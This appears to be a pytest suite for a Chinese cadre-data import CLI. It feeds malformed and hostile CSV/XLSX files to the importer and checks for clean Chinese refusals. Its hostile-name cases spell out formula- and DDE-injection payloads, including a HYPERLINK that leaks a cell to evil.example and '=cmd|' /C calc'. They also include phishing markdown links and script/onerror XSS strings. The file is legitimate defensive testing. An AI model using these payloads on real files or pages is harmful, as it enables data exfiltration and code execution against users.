"""A hostile-file corpus, generated here, run through `cli.py import` (table-driven).

Each file is either imported correctly or refused with exit code 2, a Chinese message that
names the file, the row (as Excel shows it) and the column where there is one, no traceback,
and every table's row count unchanged. docs/import.md lists the cases and their answers.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pandas as pd
import pytest

import cli
from data.importer import prepare
from data.readers import MAX_CELL_CHARS
from data.store import Store
from tests.import_samples import contract_base_files, file_bytes, table_counts

ROOT = Path(__file__).resolve().parent.parent
CJK = re.compile(r"[\u4e00-\u9fff]")
ENGLISH_ERRORS = re.compile(r"Traceback|Error:|Exception|Expected \d+ fields|field larger")


@dataclass(frozen=True)
class Case:
    """One hostile file: how to build it and how banzi must answer."""

    name: str
    file_name: str
    build: Callable[[], bytes]
    imported: bool
    row: int | None = None
    column: str | None = None
    says: str = ""
    kind: str | None = None
    stored: tuple[str, str, str] | None = None  # (table, column, value) expected after import


def csv(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def xlsx(frame: pd.DataFrame) -> bytes:
    return file_bytes(frame, "xlsx")


QG = "干部编码,考核期,等次\n"
ACT = "干部编码,日期,类别,事由\n"
UNITS = "单位编码,单位名称,单位类别\n"
CADRES = "干部编码,姓名,单位编码,职务\n"


def ratings_rows(n: int, defect_row: int | None = None) -> bytes:
    """Return a valid 民主测评 CSV of n rows; with an extra cell on Excel row defect_row."""
    lines = ["调研批次,单位编码,测评人编号,测评对象,测评维度,评价,考核期"]
    for i in range(n):
        line = f"2023年上半年,G1,R{i:06d},班子,政治建设,好,2023Q2"
        if defect_row is not None and i + 2 == defect_row:
            line += ",多出的一格"
        lines.append(line)
    return ("\n".join(lines) + "\n").encode("utf-8")


def truncated_xlsx() -> bytes:
    data = xlsx(pd.DataFrame({"干部编码": ["K1"], "考核期": ["2023Q1"], "等次": ["好"]}))
    return data[: len(data) // 2]


def zip_named_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


def gbk_with_utf8_cell() -> bytes:
    return (UNITS + "U901,市财政二局,市直机关部门\n").encode("gbk") + (
        "U902,市测试局,市直机关部门\n".encode()
    )


def utf8_with_gbk_cell() -> bytes:
    head = (UNITS + "".join(f"U9{i:02d},市第{i}局,市直机关部门\n" for i in range(5))).encode()
    return head + "U999,市测试局,市直机关部门\n".encode("gbk")


def ten_thousand_columns() -> bytes:
    header = ["干部编码", "考核期", "等次"] + [f"备注{i}" for i in range(9_997)]
    row = ["K1", "2023Q1", "好"] + ["x"] * 9_997
    return (",".join(header) + "\n" + ",".join(row) + "\n").encode()


def long_cell_xlsx() -> bytes:
    """Return an xlsx (written by openpyxl, which does not truncate) with a 40,000-char cell."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["干部编码", "日期", "类别", "事由"])
    sheet.append(["K1", "2023-03-01", "嘉奖", "长" * 40_000])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def bom_in_middle() -> bytes:
    part = (QG + "K1,2023Q1,好\n").encode("utf-8-sig")
    return part + (QG + "K2,2023Q1,好\n").encode("utf-8-sig")


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"市人社局")'
CASES = [
    # plain files a new user writes from the contract
    Case("plain actions without optional columns", "激励.csv", csv(ACT + "K1,2023-03-01,嘉奖,表现突出\n"), True),
    Case("plain GBK file", "平时考核.csv", csv(QG + "K1,2023Q1,较好\n", "gbk"), True),
    Case("title row above the header", "标题.csv", csv("2023年平时考核汇总表,,\n" + QG + "K1,2023Q1,好\n"), True),
    Case("semicolon separated", "分号.csv", csv("干部编码;考核期;等次\nK1;2023Q1;好\n"), True),
    Case("trailing empty cell", "尾逗号.csv", csv(QG + "K1,2023Q1,好,\nK2,2023Q1,好\n"), True),
    # periods and dates later than the current quarter
    Case("future period", "未来.csv", csv(QG + "K1,2099Q4,好\n"), False, 2, "考核期", "当前季度"),
    Case("future date", "未来日期.csv", csv(ACT + "K1,2099-12-31,嘉奖,x\n"), False, 2, "日期", "未来"),
    Case("future year", "未来年度.csv", csv("干部编码,年度,等次\nK1,2099,优秀\n"), False, 2, "年度", "未来"),
    Case(
        "future period in ratings", "测评未来.csv",
        csv("调研批次,单位编码,测评人编号,测评对象,测评维度,评价,考核期\nW,G1,R1,班子,政治建设,好,2099Q4\n"),
        False, 2, "考核期", "当前季度",
    ),
    # sizes: cells, lines, columns
    Case("cell over 131,072 characters", "长单元格.csv", csv(ACT + "K1,2023-03-01,嘉奖," + "长" * 140_000 + "\n"), False, 2, "事由", "32,767"),
    Case("cell over Excel's limit in xlsx", "长单元格.xlsx", long_cell_xlsx, False, 2, "事由", "32,767"),
    Case("pathological 24 MB line", "长行.csv", csv(ACT + "K1,2023-03-01,嘉奖," + "x" * 24_000_000 + "\n"), False, 2, None, "MB"),
    Case("10,000 columns", "万列.csv", ten_thousand_columns, False, 1, None, "列"),
    # encodings
    Case("GBK file with one UTF-8 cell", "混合编码.csv", gbk_with_utf8_cell, False, 3, "第B列", "混用"),
    Case("UTF-8 file with one GBK row", "混合编码2.csv", utf8_with_gbk_cell, False, 7, "第B列", "混用"),
    Case("NUL bytes at the start", "空字符.csv", lambda: b"\x00\x01\x02" * 100, False, None, None, "空字符"),
    Case("NUL byte deep in the file", "空字符2.csv", csv(QG + "K1,2023Q1,好\n" * 1_500 + "K2,2023Q1\x00,好\n"), False, 1_502, None, "空字符"),
    Case("UTF-16 without BOM", "utf16.csv", csv(QG + "K1,2023Q1,好\n", "utf-16-le"), False, None, None, "空字符"),
    Case("BOM in the middle (two files pasted)", "拼接.csv", bom_in_middle, False, 3, None, "表头"),
    # structure
    Case("extra cell near the top", "多一格.csv", lambda: ratings_rows(50, defect_row=3), False, 3, "第H列", "比表头"),
    Case("extra cell after the first megabyte", "多一格2.csv", lambda: ratings_rows(30_000, defect_row=29_000), False, 29_000, "第H列", "比表头"),
    Case("unclosed quote", "引号.csv", csv(QG + 'K1,2023Q1,"好\nK2,2023Q1,好\n'), False, 2, None, "引号"),
    Case("empty file", "空.csv", lambda: b"", False, None, None, "空"),
    Case("only blank lines", "空行.csv", csv("\n \n\n"), False, None, None, "没有"),
    Case("header only", "表头.csv", csv(QG), False, None, None, "只有表头"),
    Case("duplicated headers", "重复表头.csv", csv("干部编码,考核期,等次,等次\nK1,2023Q1,好,好\n"), False, 1, "等次", "重复"),
    Case("truncated xlsx", "截断.xlsx", truncated_xlsx, False, None, None, "损坏"),
    Case("zip renamed .xlsx", "压缩包.xlsx", zip_named_xlsx, False, None, None, "压缩包"),
    Case("PDF renamed .csv", "文档.csv", lambda: b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n", False, None, None, "PDF"),
    Case("old binary .xls", "旧版.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, False, None, None, ".xls"),
    Case("random binary", "乱码.csv", lambda: bytes(range(128, 256)) * 40, False, None, None, "编码"),
    Case("wrong kind given", "单位.csv", csv(UNITS + "U901,市测试局,市直机关部门\n"), False, None, "调研批次", "缺少必填列", kind="ratings"),
    Case("no known header", "随便.csv", csv("甲,乙,丙\n1,2,3\n"), False, 1, None, "识别"),
    # values
    Case("grade 5", "等次.csv", csv(QG + "K1,2023Q1,5\n"), False, 2, "等次"),
    Case("completion 250", "完成率.csv", csv("单位编码,考核期,事项,完成率\nG1,2023Q1,项目,250\n"), False, 2, "完成率"),
    Case("negative care talks", "诉求.csv", csv("诉求编号,受理日期,诉求类别,关爱谈话次数\nP1,2023-01-05,关心关爱,-1\n"), False, 2, "关爱谈话次数"),
    Case("2023-02-30", "日期.csv", csv(ACT + "K1,2023-02-30,嘉奖,x\n"), False, 2, "日期"),
    Case("2023Q5", "季度.csv", csv(QG + "K1,2023Q5,好\n"), False, 2, "考核期"),
    Case("closed before received", "办结.csv", csv("诉求编号,受理日期,诉求类别,办结日期\nP1,2023-03-05,关心关爱,2023-01-01\n"), False, 2, "办结日期"),
    Case("unknown action kind", "类别.csv", csv(ACT + "K1,2023-03-01,大奖,x\n"), False, 2, "类别"),
    Case("empty required cell", "必填.csv", csv(QG + "K1,,好\n"), False, 2, "考核期", "必填"),
    Case("duplicate keys in one file", "重复键.csv", csv(QG + "K1,2023Q1,好\nK1,2023Q1,较好\n"), False, 3, "干部编码、考核期", "只能出现一次"),
    Case("unknown unit", "干部.csv", csv(CADRES + "K901,王某,ZZ9,科员\n"), False, 2, "单位编码", "单位编码"),
    Case("unknown cadre", "未知干部.csv", csv(QG + "K99,2023Q1,好\n"), False, 2, "干部编码", "干部编码"),
    Case("unknown rating target", "测评对象.csv", csv("调研批次,单位编码,测评人编号,测评对象,测评维度,评价\nW,G1,R1,K99,政治建设,好\n"), False, 2, "测评对象"),
    # hostile names: stored as plain text (escaping on output is the pages' and exports' work)
    Case("formula unit name", "公式.csv", csv(UNITS + f'U901,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",市直机关部门\n'), True, stored=("units", "unit_name", HYPERLINK)),
    Case("formula cadre name", "公式2.csv", csv(CADRES + "K901,=cmd|' /C calc'!A0,G1,科员\n"), True, stored=("cadres", "name", "=cmd|' /C calc'!A0")),
    Case("markdown link name", "链接.csv", csv(UNITS + "U902,[点此重新登录](http://evil.example/login),市直机关部门\n"), True, stored=("units", "unit_name", "[点此重新登录](http://evil.example/login)")),
    Case("markdown image name", "图片.csv", csv(CADRES + "K902,![t](http://127.0.0.1:8999/x.png),G1,科员\n"), True, stored=("cadres", "name", "![t](http://127.0.0.1:8999/x.png)")),
    Case("script tag reason", "脚本.csv", csv(ACT + "K1,2023-03-01,嘉奖,<script>alert(1)</script>\n"), True, stored=("actions", "reason", "<script>alert(1)</script>")),
    Case("img onerror name", "img.xlsx", lambda: xlsx(pd.DataFrame({"单位编码": ["U903"], "单位名称": ["<img src=x onerror=alert(1)>"], "单位类别": ["事业单位"]})), True, stored=("units", "unit_name", "<img src=x onerror=alert(1)>")),
    Case("plus and at formulas", "加号.csv", csv(ACT + "K1,2023-03-01,嘉奖,+1+1\nK2,2023-03-01,嘉奖,@SUM(1;2)\n"), True, stored=("actions", "reason", "+1+1")),
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile_base(tmp_path_factory) -> Path:
    """Return a database with the contract-generated units (G1, G2) and cadres (K1–K3)."""
    from data.importer import import_files

    store = Store(tmp_path_factory.mktemp("hostile") / "base.duckdb")
    assert import_files(store, contract_base_files(), user="tester").ok
    return store.path


def test_corpus_is_large_enough() -> None:
    assert len(CASES) >= 40
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_file(hostile_base, tmp_path, capsys, case: Case) -> None:
    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    path = tmp_path / case.file_name
    path.write_bytes(case.build())
    before = table_counts(store)
    argv = ["--db", str(store.path), "import", str(path)] + (
        ["--kind", case.kind] if case.kind else []
    )
    code = cli.main(argv)
    out, err = capsys.readouterr()
    text = out + err
    assert not ENGLISH_ERRORS.search(text), text[:2000]
    after = table_counts(store)
    if case.imported:
        assert code == 0, text[:3000]
        assert "已导入（批次" in text
        assert after != before
        if case.stored:
            table, column, value = case.stored
            con = duckdb.connect(str(store.path), read_only=True)
            try:
                values = [r[0] for r in con.execute(f"SELECT {column} FROM {table}").fetchall()]
            finally:
                con.close()
            assert value in values
        return
    assert code == 2, text[:3000]
    assert after == before
    assert case.file_name in text
    assert "已拒绝" in text
    problems = text.split("问题（共", 1)[1]
    assert CJK.search(problems)
    if case.row is not None:
        assert f"第 {case.row} 行" in problems, problems[:2000]
    if case.column is not None:
        assert f"「{case.column}」" in problems, problems[:2000]
    if case.says:
        assert case.says in problems, problems[:2000]


def test_extra_cells_are_answered_the_same_wherever_they_are(hostile_base, tmp_path) -> None:
    """An extra cell on row 3 and on row 29,000 (past the first megabyte) give one answer.

    The file looks plain, so DuckDB's strict reader meets the ragged line inside the write
    transaction and the general reader gives the answer."""
    from data.importer import import_files

    def problems(name: str, data: bytes) -> pd.DataFrame:
        store = Store(shutil.copy(hostile_base, tmp_path / f"{name}.duckdb"))
        return import_files(store, [(name, data)], user="tester").files[0].problems

    top = problems("top.csv", ratings_rows(50, defect_row=3))
    deep_data = ratings_rows(30_000, defect_row=29_000)
    assert deep_data.find(b"\n", 1 << 20) < deep_data.find("多出".encode())
    deep = problems("deep.csv", deep_data)
    assert list(top["行号"]) == [3] and list(deep["行号"]) == [29_000]
    assert list(top["列"]) == list(deep["列"]) == ["第H列"]
    assert list(top["期望"]) == list(deep["期望"])


def test_mixed_encoding_is_never_stored_as_mojibake(hostile_base, tmp_path) -> None:
    from data.importer import import_files

    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    report = import_files(store, [("混合.csv", gbk_with_utf8_cell())], user="tester")
    assert not report.ok
    con = duckdb.connect(str(store.path), read_only=True)
    try:
        names = [r[0] for r in con.execute("SELECT unit_name FROM units").fetchall()]
    finally:
        con.close()
    assert "甯傛祴璇曞眬" not in names and "市测试局" not in names


def test_long_line_memory_stays_bounded() -> None:
    """A 30 MB line is refused before it is decoded or split: peak memory well under 3×."""
    data = (ACT + "K1,2023-03-01,嘉奖," + "x" * 30_000_000 + "\n").encode()
    tracemalloc.start()
    try:
        report = prepare("长行.csv", data).report
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.status == "refused"
    assert peak < 1.5 * len(data), peak
    assert MAX_CELL_CHARS == 32_767


@pytest.mark.parametrize(
    "case", [c for c in CASES if c.name in ("cell over 131,072 characters", "GBK file with one UTF-8 cell")],
    ids=lambda c: c.name,
)  # fmt: skip
def test_real_process_exit_code(hostile_base, tmp_path, case: Case) -> None:
    """The real `python cli.py import`: exit 2, Chinese on stdout, nothing on stderr."""
    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    path = tmp_path / case.file_name
    path.write_bytes(case.build())
    done = subprocess.run(
        [sys.executable, str(ROOT / "cli.py"), "--db", str(store.path), "import", str(path)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stdout + done.stderr
    assert f"第 {case.row} 行" in done.stdout and case.file_name in done.stdout


def test_errors_out_folder_is_refused(hostile_base, tmp_path, capsys) -> None:
    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    path = tmp_path / "x.csv"
    path.write_bytes((QG + "K1,2023Q5,好\n").encode())
    code = cli.main(["--db", str(store.path), "import", str(path), "--errors-out", str(tmp_path)])
    err = capsys.readouterr().err
    assert code == 2 and "文件夹" in err and "Traceback" not in err


@pytest.mark.parametrize("target", ["missing.csv", "."])
def test_missing_file_or_folder_is_refused(hostile_base, tmp_path, capsys, target) -> None:
    code = cli.main(["--db", str(hostile_base), "import", str(tmp_path / target)])
    err = capsys.readouterr().err
    assert code == 2 and CJK.search(err)


@pytest.mark.parametrize(
    ("message", "column", "says"),
    [
        ("Constraint Error: NOT NULL constraint failed: actions.tolerated", "容错认定", "不能为空"),
        ("Constraint Error: CHECK constraint failed on table actions with expression CHECK((kind IN ('嘉奖')))", "类别", "范围"),
        ('Constraint Error: Duplicate key "cadre_code: K1" violates primary key constraint', "", "重复"),
        ("Conversion Error: Could not convert string 'x' to INT32", "", "转换"),
        ("TransactionContext Error: Current transaction is aborted (please ROLLBACK)", "", "数据库规则"),
    ],
)  # fmt: skip
def test_database_rule_failures_are_told_in_chinese(
    hostile_base, tmp_path, monkeypatch, message, column, says
) -> None:
    """A rule only the schema enforces refuses the file with a Chinese reason, no English."""
    import duckdb as ddb

    from data import importer

    def failing_write(con, prep, user):
        raise ddb.ConstraintException(message)

    monkeypatch.setattr(importer, "_write", failing_write)
    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    before = table_counts(store)
    report = importer.import_files(
        store, [("a.csv", (ACT + "K1,2023-03-01,嘉奖,x\n").encode())], user="t"
    )
    result = report.files[0]
    assert result.status == "refused"
    problem = result.problems.iloc[-1]
    assert problem["列"] == column and says in problem["期望"]
    assert not re.search(r"[A-Za-z]{4,}", result.to_text().replace("actions", ""))
    assert table_counts(store) == before


def test_gbk_text_is_not_mistaken_for_mixed_encoding() -> None:
    """60,000 random GB2312 names (any level, 1–6 characters) in GBK: read as GBK, no refusal.

    Guards the mixed-encoding and stray-BOM checks against byte patterns GBK text can contain.
    """
    import random

    from data.readers import decode_text

    rng = random.Random(7)
    chars = [
        bytes([hi, lo]).decode("gb2312")
        for hi in range(0xB0, 0xF8)
        for lo in range(0xA1, 0xFF)
        if not (hi == 0xD7 and lo > 0xF9)
    ]
    for _ in range(3):
        names = ("".join(rng.choices(chars, k=rng.choice([1, 2, 3, 4, 6]))) for _ in range(20_000))
        text = CADRES + "".join(f"C{i},{n},G1,{n[:2]}\n" for i, n in enumerate(names))
        decoded, encoding, _ = decode_text(text.encode("gbk"))
        assert decoded == text and encoding == "GB18030/GBK"


@pytest.mark.parametrize(
    "argv", [["rollback", "99"], ["rollback", "x"], ["batches", "--limit", "x"]]
)
def test_batches_and_rollback_bad_arguments(hostile_base, tmp_path, capsys, argv) -> None:
    """A batch that does not exist or is no number: Chinese (or usage) line, exit 1 or 2."""
    store = Store(shutil.copy(hostile_base, tmp_path / "store.duckdb"))
    try:
        code = cli.main(["--db", str(store.path), *argv])
    except SystemExit as exc:  # argparse: usage line, exit 2
        code = exc.code
    err = capsys.readouterr().err
    assert code in (1, 2) and "Traceback" not in err
    if argv[1] == "99":
        assert "批次 99 不存在" in err
